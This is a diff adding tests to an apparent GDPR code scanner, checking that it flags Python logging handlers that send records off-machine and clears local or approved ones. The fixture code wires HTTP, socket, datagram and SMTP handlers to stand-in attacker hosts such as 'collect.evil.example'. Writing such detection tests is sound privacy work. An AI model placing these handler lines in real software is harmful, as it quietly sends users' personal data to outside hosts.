@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from tests.conftest import codes
+from tests.conftest import codes, run
 
 
 def only(code, source, config=None):
@@ -91,6 +91,93 @@ def test_sentry():
     found = codes(src)
     assert ("GDPR304", 2) in found and ("GDPR304", 3) not in found
     assert only("GDPR303", src) == [7, 8]
+
+
+def test_log_handlers_that_send_records_to_another_machine():
+    src = '''
+    import logging
+    import logging.handlers
+    from logging.handlers import SysLogHandler as Syslog, SMTPHandler, SocketHandler, DatagramHandler
+
+    LOG_HOST = "collect.evil.example"
+    root = logging.getLogger("shop")
+    root.addHandler(logging.handlers.HTTPHandler("collect.evil.example", "/logs", secure=True))
+    root.addHandler(logging.handlers.HTTPHandler(host=LOG_HOST + ":8443", url="/logs"))
+    root.addHandler(Syslog(address=("logs3.papertrailapp.com", 12345)))
+    root.addHandler(SocketHandler("8.8.8.8", 9020))
+    root.addHandler(DatagramHandler("logs.evil.example", 9021))
+    root.addHandler(SMTPHandler("localhost", "app@shop.example", ["ops@mailbox.example"], "errors"))
+    root.addHandler(SMTPHandler(("smtp.evil.example", 25), "app@shop.example", "ops@shop.example", "errors"))
+    '''
+    found = run(src)
+    assert [(f.code, f.line) for f in found] == [("GDPR303", line) for line in range(7, 14)]
+    by_line = {f.line: f for f in found}
+    assert "sent to collect.evil.example by HTTPHandler" in by_line[7].message
+    assert "sent to collect.evil.example by HTTPHandler" in by_line[8].message  # the constant, without its port
+    assert "SolarWinds Worldwide, LLC (Papertrail)" in by_line[9].message and by_line[9].processor == "papertrail"
+    assert "sent to 8.8.8.8 by SocketHandler" in by_line[10].message
+    assert "mailed to ops@mailbox.example" in by_line[12].message and "sent to" not in by_line[12].message
+    assert "sent to smtp.evil.example" in by_line[13].message and "mailed" not in by_line[13].message
+    assert all(f.categories == [] and f.sink.startswith("log handler") for f in found)
+
+
+def test_log_handlers_that_keep_records_here_are_not_findings():
+    src = '''
+    import logging
+    import logging.handlers
+    import os
+    from logging.handlers import RotatingFileHandler, SysLogHandler, SMTPHandler
+    from shop.transport import HTTPHandler
+
+    root = logging.getLogger("shop")
+    root.addHandler(logging.StreamHandler())
+    root.addHandler(logging.FileHandler("/var/log/shop.log"))
+    root.addHandler(RotatingFileHandler("shop.log", maxBytes=10_000))
+    root.addHandler(SysLogHandler())
+    root.addHandler(SysLogHandler(address="/dev/log"))
+    root.addHandler(SysLogHandler(("localhost", 514)))
+    root.addHandler(logging.handlers.SysLogHandler(address=("127.0.0.1", 514)))
+    root.addHandler(logging.handlers.SocketHandler("/run/shop/log.sock", None))
+    root.addHandler(logging.handlers.HTTPHandler("logs.internal", "/ingest"))
+    root.addHandler(logging.handlers.HTTPHandler("10.0.0.7:8080", "/ingest"))
+    root.addHandler(logging.handlers.HTTPHandler("syslog-relay", "/ingest"))
+    root.addHandler(logging.handlers.HTTPHandler("logs.shop.example", "/ingest"))
+    root.addHandler(logging.handlers.HTTPHandler(os.environ["LOG_HOST"], "/ingest"))
+    root.addHandler(HTTPHandler("collect.evil.example", "/logs"))  # the project's own class
+    root.addHandler(SMTPHandler("localhost", "app@shop.example", ["ops@shop.example"], "errors"))
+    root.addHandler(logging.handlers.SysLogHandler(address=("logs3.papertrailapp.com", 12345)))
+    '''
+    config = {"first_party_domains": ["shop.example"], "approved_processors": [{"name": "papertrail"}]}
+    assert run(src, config) == []
+    # without the approval, the last one is a finding; without the first-party domain, two more
+    assert [f.line for f in run(src, {"first_party_domains": ["shop.example"]})] == [23]
+    assert [f.line for f in run(src)] == [19, 22, 23]
+
+
+def test_log_handlers_configured_by_a_dict():
+    src = '''
+    import logging.config
+
+    LOGGING = {
+        "version": 1,
+        "handlers": {
+            "console": {"class": "logging.StreamHandler"},
+            "file": {"class": "logging.handlers.RotatingFileHandler", "filename": "shop.log"},
+            "local": {"class": "logging.handlers.SysLogHandler", "address": "/dev/log"},
+            "default": {"class": "logging.handlers.SysLogHandler"},
+            "mine": {"class": "shop.transport.HTTPHandler", "host": "collect.evil.example"},
+            "remote": {"class": "logging.handlers.HTTPHandler", "host": "collect.evil.example", "url": "/logs"},
+        },
+    }
+
+    def configure():
+        logging.config.dictConfig({"version": 1, "handlers": {"trail": {
+            "()": "logging.handlers.SysLogHandler", "address": ["logs3.papertrailapp.com", 12345]}}})
+    '''
+    found = run(src)
+    assert [(f.code, f.line, f.symbol) for f in found] == [("GDPR303", 11, ""), ("GDPR303", 16, "configure")]
+    assert "sent to collect.evil.example by HTTPHandler" in found[0].message
+    assert "Papertrail" in found[1].message
 
 
 def test_storage_sinks():
